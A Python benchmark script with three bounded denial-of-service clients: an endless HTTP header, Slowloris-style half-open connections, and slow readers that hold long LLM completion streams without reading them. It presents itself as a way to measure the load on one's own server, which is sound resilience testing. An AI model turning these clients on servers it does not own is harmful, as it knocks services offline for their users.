"""Rude HTTP clients, for measuring what they cost everybody else. Bounded in number and time, standard library only.

Against a server of your own: `python bench/attack_clients.py half_open 127.0.0.1 8000 --count 2000 --seconds 20`.

| client | does |
|---|---|
| endless_header | sends one header that never ends, on a new connection whenever the server ends one |
| half_open | keeps `count` connections open, each with half of a request's head |
| slow_reader | asks for `count` long streams with a tiny receive buffer and takes nothing of them |
"""

from __future__ import annotations

import argparse
import asyncio
import json
import resource
import select
import socket
import time
from contextlib import suppress
from dataclasses import asdict, dataclass

MAX_COUNT = 20_000
MAX_SECONDS = 600.0
_PIECE = b"a" * 65536
_WAVE = 100
"""Connections opened at once: more than the kernel's queue would only wait for each other."""
_LOOK_S = 0.05
_CONNECT_S = 10.0
_RECEIVE_BYTES = 2048


@dataclass(slots=True)
class Outcome:
    opened: int = 0
    """Connections made in all."""
    ended: int = 0
    """Those that the server ended."""
    open_at_end: int = 0
    bytes_sent: int = 0


async def endless_header(host: str, port: int, seconds: float) -> Outcome:
    outcome, until_s = Outcome(), _until(seconds)
    while time.monotonic() < until_s:
        line = await _connect(host, port, outcome)
        if line is None:
            continue
        loop = asyncio.get_running_loop()
        try:
            async with asyncio.timeout_at(loop.time() + until_s - time.monotonic()):
                await loop.sock_sendall(line, b"GET /health HTTP/1.1\r\nHost: localhost\r\nx-endless: ")
                while True:
                    await loop.sock_sendall(line, _PIECE)
                    outcome.bytes_sent += len(_PIECE)
        except TimeoutError:
            outcome.open_at_end += not _ended(line)
        except OSError:
            outcome.ended += 1
        finally:
            line.close()
    return outcome


async def half_open(host: str, port: int, count: int, seconds: float) -> Outcome:
    """A connection that the server ends is replaced at once."""
    outcome, until_s = Outcome(), _until(seconds)
    _allow_files(count)
    lines: list[socket.socket] = []
    try:
        while time.monotonic() < until_s:
            gone = [line for line in lines if _ended(line)]
            outcome.ended += len(gone)
            for line in gone:
                line.close()
            lines = [line for line in lines if line.fileno() >= 0]
            wave = min(_WAVE, _bounded(count) - len(lines))
            for line in await asyncio.gather(*(_half_head(host, port, outcome) for _ in range(wave))):
                lines += [] if line is None else [line]
            await asyncio.sleep(0 if wave else _LOOK_S)
        outcome.open_at_end = sum(not _ended(line) for line in lines)
    finally:
        for line in lines:
            line.close()
    return outcome


async def slow_reader(host: str, port: int, key: str, count: int, seconds: float) -> Outcome:
    """`key` may be empty. Each stream asks for as long an answer as the server gives."""
    outcome, until_s = Outcome(), _until(seconds)
    _allow_files(count)
    body = json.dumps({"prompt": "Once", "stream": True, "ignore_eos": True, "n": 1, "logprobs": 5}).encode()
    head = f"POST /v1/completions HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
    head += f"Content-Length: {len(body)}\r\n" + (f"Authorization: Bearer {key}\r\n" if key else "") + "\r\n"
    lines: list[socket.socket] = []
    try:
        for _ in range(_bounded(count)):
            line = await _connect(host, port, outcome, receive_bytes=_RECEIVE_BYTES)
            if line is not None:
                lines.append(line)
                await asyncio.get_running_loop().sock_sendall(line, head.encode() + body)
                outcome.bytes_sent += len(head) + len(body)
        while time.monotonic() < until_s and not all(map(_ended, lines)):
            await asyncio.sleep(_LOOK_S)
        outcome.ended = sum(map(_ended, lines))
        outcome.open_at_end = len(lines) - outcome.ended
    finally:
        for line in lines:
            line.close()
    return outcome


async def _half_head(host: str, port: int, outcome: Outcome) -> socket.socket | None:
    line = await _connect(host, port, outcome)
    if line is not None:
        with suppress(OSError):  # ended already; the next look finds that out
            line.send(b"GET /health HTTP/1.1\r\nHost: localhost\r\nx-never: ")
    return line


async def _connect(host: str, port: int, outcome: Outcome, *, receive_bytes: int = 0) -> socket.socket | None:
    """None when the server does not take it: also a wanted outcome of an attack, and tried again."""
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    line = socket.socket(family, socket.SOCK_STREAM)
    line.setblocking(False)
    if receive_bytes:
        line.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_bytes)
    try:
        async with asyncio.timeout(_CONNECT_S):
            await asyncio.get_running_loop().sock_connect(line, (host, port))
    except (OSError, TimeoutError):
        line.close()
        await asyncio.sleep(_LOOK_S)
        return None
    outcome.opened += 1
    return line


def _ended(line: socket.socket) -> bool:
    """By the server. Asked of the kernel, since reading would take what was sent."""
    poll = select.poll()
    poll.register(line, select.POLLRDHUP)
    return bool(poll.poll(0))


def _until(seconds: float) -> float:
    return time.monotonic() + min(seconds, MAX_SECONDS)


def _bounded(count: int) -> int:
    return min(count, MAX_COUNT)


def _allow_files(count: int) -> None:
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    wanted = _bounded(count) + 256
    if soft < wanted:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(wanted, hard), hard))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=("endless_header", "half_open", "slow_reader"))
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--count", type=int, default=100)
    parser.add_argument("--seconds", type=float, default=10.0)
    parser.add_argument("--key", default="")
    given = parser.parse_args()
    if given.attack == "endless_header":
        attack = endless_header(given.host, given.port, given.seconds)
    elif given.attack == "half_open":
        attack = half_open(given.host, given.port, given.count, given.seconds)
    else:
        attack = slow_reader(given.host, given.port, given.key, given.count, given.seconds)
    print(json.dumps(asdict(asyncio.run(attack))))


if __name__ == "__main__":
    main()
